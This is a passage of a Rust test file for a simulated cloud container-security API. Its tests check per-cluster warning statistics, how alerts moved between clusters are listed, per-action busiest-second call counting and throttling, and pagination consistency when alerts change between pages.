        assert_eq!(&f, &firewall[c]);
        // Baseline: the failing items of the cluster, counted by level, match the statistics.
        let open: Vec<Value> = warnings[c]
            .iter()
            .map(|id| sim.finding(Domain::Baseline, *id).unwrap())
            .filter(|w| w["Status"] == 1)
            .collect();
        let stats = api
            .ok("GetClusterCheckItemWarningStatistics", &[("ClusterId", c)])
            .await;
        let level = |l: &str| open.iter().filter(|w| w["Level"] == l).count();
        assert_eq!(stats["Data"]["HighWarningCount"], level("high"));
        assert_eq!(stats["Data"]["MediumWarningCount"], level("medium"));
        assert_eq!(stats["Data"]["LowWarningCount"], level("low"));
        // And each of its warnings is listed under its baseline and node.
        for id in &warnings[c] {
            let w = sim.finding(Domain::Baseline, *id).unwrap();
            let risk = w["RiskId"].to_string();
            let body = api
                .ok(
                    "DescribeCheckWarnings",
                    &[
                        ("RiskId", &risk),
                        ("Uuid", w["Uuid"].as_str().unwrap()),
                        ("PageSize", "100"),
                    ],
                )
                .await;
            assert!(ids(&body, "CheckWarnings", "CheckWarningId").contains(id));
        }
    }
    // A finding moved to another cluster by a patch is listed there, not where it was.
    let moved = alerts[&clusters[1]][0];
    sim.add_finding(
        Domain::Alert,
        None,
        json!({"Id": moved, "K8sClusterId": clusters[2], "clusterId": clusters[2]}),
    )
    .unwrap();
    let listed = |c: &str| {
        let api = api.clone();
        let c = c.to_string();
        async move {
            ids(
                &api.ok(
                    "DescribeSuspEvents",
                    &[("ClusterId", &c), ("PageSize", "100")],
                )
                .await,
                "SuspEvents",
                "Id",
            )
        }
    };
    assert!(!listed(&clusters[1]).await.contains(&moved));
    assert!(listed(&clusters[2]).await.contains(&moved));
    // The generator spreads new findings over the clusters.
    let mut touched = BTreeSet::new();
    for _ in 0..40 {
        for id in sim.tick().new_alerts {
            let r = sim.finding(Domain::Alert, id).unwrap();
            touched.insert(r["K8sClusterId"].as_str().unwrap().to_string());
        }
    }
    assert!(
        touched.len() >= 30,
        "new alerts on {} clusters",
        touched.len()
    );
}

/// The busiest second per action: the most calls of that action within any one second, over
/// a sliding window, whatever else is called; reset with the counters.
#[tokio::test]
async fn busiest_second_counts_calls_within_one_second() {
    let sim = start().await;
    let api = Api::new(&sim, SignatureVersion::V3);
    let http = reqwest::Client::new();
    let started = Instant::now();
    for _ in 0..7 {
        api.ok("DescribeSuspEvents", &[]).await;
    }
    let burst = started.elapsed();
    assert!(burst < Duration::from_secs(1), "the burst took {burst:?}");
    // Two calls of another action, more than a second apart: never two in one second.
    api.ok("GetClusterSuspEventStatistics", &[]).await;
    tokio::time::sleep(Duration::from_millis(1_100)).await;
    api.ok("GetClusterSuspEventStatistics", &[]).await;
    // Three more alert calls, well over a second after the burst: the window slides, so
    // the busiest second stays the burst's seven, not ten.
    for _ in 0..3 {
        api.ok("DescribeSuspEvents", &[]).await;
    }
    assert_eq!(sim.busiest_second("DescribeSuspEvents"), 7);
    assert_eq!(sim.busiest_second("GetClusterSuspEventStatistics"), 1);
    assert_eq!(sim.busiest_second("DescribeVulList"), 0);
    assert_eq!(sim.call_count("DescribeSuspEvents"), 10);
    let calls = get_json(&http, &format!("{}/_sim/calls", sim.base_url())).await;
    assert_eq!(calls["busiest_second"]["DescribeSuspEvents"], 7);
    assert_eq!(calls["busiest_second"]["GetClusterSuspEventStatistics"], 1);
    // Throttled calls count too: they reached the service.
    http.delete(format!("{}/_sim/calls", sim.base_url()))
        .send()
        .await
        .unwrap();
    assert_eq!(sim.busiest_seconds(), BTreeMap::new());
    let quota = Simulator::start(SimConfig {
        quota_per_second: Some(2),
        ..SimConfig::default()
    })
    .await
    .unwrap();
    let qapi = Api::new(&quota, SignatureVersion::V3);
    let started = Instant::now();
    let mut throttled = 0;
    for _ in 0..4 {
        if qapi.call("DescribeSuspEvents", &[]).await.code() == "Throttling.User" {
            throttled += 1;
        }
    }
    assert!(started.elapsed() < Duration::from_secs(1));
    assert_eq!(throttled, 2);
    assert_eq!(quota.busiest_second("DescribeSuspEvents"), 4);
}

/// The alert listing computed for page 1 serves the later pages of the same query, and any
/// change to the alerts in between (a new alert, a handled one) is seen at once: pages never
/// come from a stale listing.
#[tokio::test]
async fn alert_pages_follow_changes_made_between_them() {
    let sim = start().await;
    let api = Api::new(&sim, SignatureVersion::V3);
    let pending = [("Dealed", "N"), ("PageSize", "2")];
    let ids = |v: &Value| -> Vec<i64> {
        items(v, "SuspEvents")
            .iter()
            .map(|r| r["Id"].as_i64().unwrap())
            .collect()
    };
    let page = |n: &'static str| {
        let mut q = pending.to_vec();
        q.push(("CurrentPage", n));
        q
    };
    let first = api.ok("DescribeSuspEvents", &page("1")).await;
    let total = first["TotalCount"].as_i64().unwrap();
    let second = api.ok("DescribeSuspEvents", &page("2")).await;
    assert_eq!(second["TotalCount"], total);
    assert!(ids(&second).iter().all(|id| !ids(&first).contains(id)));

    // A new alert is the newest: page 1 starts with it, and the total grew.
    let added = sim.add_finding(Domain::Alert, None, json!({})).unwrap();
    let added = added["Id"].as_i64().unwrap();
    let again = api.ok("DescribeSuspEvents", &page("1")).await;
    assert_eq!(ids(&again)[0], added);
    assert_eq!(again["TotalCount"], total + 1);
    // Handled, it leaves the pending listing at once.
    sim.set_status(Domain::Alert, added, 2).unwrap();
    let after = api.ok("DescribeSuspEvents", &page("1")).await;
    assert!(!ids(&after).contains(&added));
    assert_eq!(after["TotalCount"], total);
    assert_eq!(ids(&after), ids(&first));
}
